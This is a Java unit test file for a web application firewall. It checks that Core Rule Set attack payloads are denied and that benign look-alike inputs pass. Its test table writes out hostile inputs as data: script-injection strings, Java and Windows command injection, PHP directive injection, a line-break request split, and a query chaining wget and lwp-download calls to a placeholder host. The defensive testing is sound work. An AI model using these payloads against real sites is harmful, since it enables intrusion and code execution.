package io.paduraksa.policy.attack;

import static io.paduraksa.policy.attack.AttacksBodyTest.DENIED;
import static io.paduraksa.policy.attack.AttacksBodyTest.FORM;
import static org.assertj.core.api.Assertions.assertThat;

import io.paduraksa.policy.PolicyDecision;
import io.paduraksa.testing.TestPolicyInput;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/**
 * The rules written after the WAF bench's third table of misses (CRS 3.3.4 stages ModSecurity
 * denied and we did not, with the harness's {@code Accept-Charset} left out): each payload, most of
 * them CRS's own, where CRS's test sends it (the request target as sent, a cookie, a form or XML
 * body), and benign look-alikes in the same places. Full-width forms fold to ASCII (941110 over
 * {@code ＜script＞}), a query is split on {@code &} only (932100 after {@code ;}), CRS 933120's PHP
 * directives with {@code =}, 941200's VML frame, 941350's UTF-7, a comment inside
 * {@code document.cookie} (941370's form, scored by 941180), 944110, a request line after a line
 * break (921110) and {@code | type} (CRS 932115's Windows command).
 */
class AttacksCrsPartsTest {

    @ParameterizedTest(name = "{0} in {1}: {2}")
    @CsvSource(delimiterString = " => ", quoteCharacter = 0, textBlock = """
            944110 => form   => test=java.Runtime
            944110 => xml    => <?xml version="1.0"?><xml><element attribute_name="attribute_value">java.ProcessBuilder</element></xml>
            944110 => xml    => <?xml version="1.0"?><xml><element attribute_name="attribute_value">java.Runtime</element></xml>
            921110 => form   => var=aaa%0d%0aGet+/foo%0d
            933120 => form   => var=session.bug_compat_42%3dtrue
            933120 => form   => x=allow_url_include%3D1
            941110 => form   => var=%ef%bc%9cscript%20%ef%bc%9ealert%281%29%ef%bc%9c/script%ef%bc%9e
            941110 => cookie => ＜script ＞alert(1)＜/script＞=value
            941200 => cookie => %3Cv%3Avmlframe%20src%3D%22foo.com%2Fsup.fml%22%2F%3E=941200-3
            941180 => form   => a=document%2F%2Afoo%2A%2F.%2F%2Abar%2A%2Fcookie
            932110 => form   => var=" | type %SystemDrive%\\config.ini | "
            932100 => target => /?foo=http://x.example/upload.php;lwp-download%20http://x.example/a.jpg;wget%20http://x.example/a.jpg
            941350 => target => /xx?id=%25252bADw-script%25252bAD4-
            942220 => target => /s?x=1;q=4294967296
            942220 => target => /s?a=b&x=1;q=4294967296;y=2
            941350 => target => /xx?id=%2BADw-script%2BAD4-alert(1)
            """)
    void crsPayloadsAreDeniedWhereCrsSendsThem(String rule, String where, String payload) {
        TestPolicyInput request = new TestPolicyInput();
        PolicyDecision decision = send(request, where, payload);

        assertThat(decision).as(String.valueOf(request.matches())).isSameAs(DENIED);
        assertThat(String.valueOf(request.matches())).contains(rule + " ");
    }

    @ParameterizedTest(name = "{0}: {1}")
    @CsvSource(delimiterString = " => ", quoteCharacter = 0, textBlock = """
            form   => q=%EF%BC%88%E6%9D%B1%E4%BA%AC%EF%BC%89%E3%81%AE%E5%A4%A9%E6%B0%97%EF%BC%81
            form   => q=%EF%BC%A1%EF%BC%A2%EF%BC%A3+%EF%BC%91%EF%BC%92%EF%BC%93
            form   => note=I+%E2%9D%A4%EF%B8%8F+this+shop
            form   => q=how+to+set+session.cookie_lifetime+in+php
            form   => q=allow_url_include+explained
            form   => q=window+location+and+document+title
            form   => q=type+of+shoes+%7C+size
            form   => comment=Please+get+back+to+me%0D%0AThanks%0D%0A
            target => /search?q=a;b&sort=price;asc
            target => /search?q=%2Bplus+and+ad4
            cookie => theme=dark; lang=ja
            cookie => greeting=（こんにちは）！
            """)
    void benignLookAlikesPass(String where, String payload) {
        TestPolicyInput request = new TestPolicyInput();
        assertThat(send(request, where, payload)).as(String.valueOf(request.matches())).isSameAs(PolicyDecision.CONTINUE);
    }

    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiterString = " => ", quoteCharacter = 0, textBlock = """
            param=%1G                                     => %1G
            param=%7%6F%6D%65%74%65%78%74%5F%31%32%33%    => %7%
            x=new %w20$                                   => %w
            a=1&b=%                                       => %
            a=%4                                          => %4
            """)
    void anInvalidEscapeInAFormBodyIsAWarningAsIn920240(String body, String excerpt) {
        TestPolicyInput warned = new TestPolicyInput();
        assertThat(send(warned, "form", body)).as("a warning alone does not deny").isSameAs(PolicyDecision.CONTINUE);
        assertThat(String.valueOf(warned.matches())).contains("920240 ").contains(excerpt);

        // At paranoia 2 with neither Accept (920300) nor User-Agent (920320), notices of 2 each: 3 + 2 + 2.
        AttacksPolicy pl2 = new AttacksPolicy("waf", 2, 5, true, true, true, List.of(), false, List.of(), DENIED,
                64 * 1024, false, TimeUnit.SECONDS.toNanos(10));
        TestPolicyInput bare = new TestPolicyInput().path("/").method("POST").target("/");
        bare.header("Content-Type", FORM);
        bare.hasBody(true);
        assertThat(AttacksBodyTest.scan(pl2, bare, body)).isSameAs(DENIED);
        assertThat(String.valueOf(bare.matches())).contains("920240 ").contains("920300 ").contains("920320 ");

        TestPolicyInput valid = new TestPolicyInput();
        assertThat(send(valid, "form", "param=%41%2b+100%25")).isSameAs(PolicyDecision.CONTINUE);
        assertThat(valid.matches()).isNull();
    }

    @Test
    void anEscapeCutByTheSizeBoundIsNotInvalid() {
        // 6 bytes inspected of "q=ab%41": the bound cuts "%41" after "%4", which is not 920240's trailing escape.
        AttacksPolicy policy = AttacksBodyTest.policy(6, false);
        TestPolicyInput request = new TestPolicyInput().path("/").method("POST").target("/");
        request.header("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0");
        request.header("Accept", "*/*");
        request.header("Content-Type", FORM);
        request.hasBody(true);
        assertThat(AttacksBodyTest.scan(policy, request, "q=ab%41")).isSameAs(PolicyDecision.CONTINUE);
        assertThat(request.matches()).isNull();

        TestPolicyInput ended = new TestPolicyInput();
        assertThat(send(ended, "form", "q=ab%4")).isSameAs(PolicyDecision.CONTINUE);
        assertThat(String.valueOf(ended.matches())).contains("920240 ");
    }

    private static PolicyDecision send(TestPolicyInput request, String where, String payload) {
        AttacksPolicy policy = AttacksBodyTest.policy(64 * 1024, false);
        request.path("/").method(where.equals("form") || where.equals("xml") ? "POST" : "GET");
        request.target(where.equals("target") ? payload : "/");
        request.header("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0");
        request.header("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8");
        return switch (where) {
            case "form", "xml" -> {
                request.header("Content-Type", where.equals("form") ? FORM : "application/xml");
                request.hasBody(true);
                yield AttacksBodyTest.scan(policy, request, payload);
            }
            case "cookie" -> {
                // On the wire the header is UTF-8 bytes, one char per byte in the request's views.
                request.header("Cookie", new String(payload.getBytes(StandardCharsets.UTF_8), StandardCharsets.ISO_8859_1));
                yield policy.evaluate(request);
            }
            default -> policy.evaluate(request);
        };
    }
}
